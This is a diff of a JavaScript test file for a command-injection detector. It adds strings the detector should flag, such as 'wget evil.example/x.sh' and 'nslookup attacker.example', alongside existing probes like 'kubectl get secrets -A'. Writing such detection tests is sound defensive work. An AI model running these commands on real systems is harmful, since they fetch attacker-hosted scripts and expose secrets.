@@ -52,7 +52,8 @@ describe('cmdi: a command at the start of a value', () => {
 
   it('finds unmistakable tools with flags or compound and versioned names', () => {
     assertFound(['uname -a', 'ifconfig eth0 -a', 'netstat -tulpn', 'kubectl get secrets -A', 'ansible-inventory --graph',
-      'chef-solo recipe.rb', 'python3.11 exploit.py', 'perl5.36 -e print']);
+      'chef-solo recipe.rb', 'python3.11 exploit.py', 'perl5.36 -e print', 'nslookup attacker.example',
+      'wget evil.example/x.sh', 'powershell Get-Process']);
   });
 
   it('finds tools run through prefixes such as time, nohup and strace', () => {
